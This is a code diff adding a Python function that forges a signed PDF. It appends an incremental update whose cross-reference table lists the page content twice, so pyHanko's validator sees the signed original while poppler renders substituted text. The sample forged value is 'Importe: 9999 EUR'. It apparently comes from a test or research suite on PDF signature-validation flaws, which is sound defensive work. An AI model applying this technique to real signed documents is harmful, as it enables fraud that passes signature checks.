@@ -364,3 +364,24 @@ def new_document_after(pdf: bytes, text: str = "Importe: 9999 EUR") -> bytes:
     out.seek(len(pdf))
     writer.write(out)  # offsets are positions in the whole file
     return out.getvalue()
+
+
+def duplicate_xref_entry(pdf: bytes, forged: bytes = FORGED) -> bytes:
+    """An update whose cross-reference table lists the page's content stream twice: first at
+    a new object with `forged` text, then at its signed original. pyHanko keeps the last entry
+    (nothing changed), poppler the first (the forged text is shown)."""
+    from pyhanko.pdf_utils.reader import PdfFileReader
+
+    reader = PdfFileReader(io.BytesIO(pdf), strict=True)
+    number = reader.root["/Pages"]["/Kids"][0].get_object().raw_get("/Contents").idnum
+    original = [m.start() for m in re.finditer(rb"(?<![0-9])%d 0 obj" % number, pdf)][-1]
+    size = int(re.findall(rb"/Size (\d+)", pdf)[-1])
+    previous = int(pdf[pdf.rfind(b"startxref") + 9:].split()[0])
+    root = re.findall(rb"/Root (\d+ 0 R)", pdf)[-1]
+    new = len(pdf)
+    body = pdf + b"%d 0 obj\n<< /Length %d >>\nstream\n" % (number, len(forged)) + forged + \
+        b"\nendstream\nendobj\n"
+    start = len(body)
+    return body + (b"xref\n%d 1\n%010d 00000 n \n%d 1\n%010d 00000 n \n" % (number, new, number, original)
+                   + b"trailer\n<< /Size %d /Root %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
+                   % (size, root, previous, start))
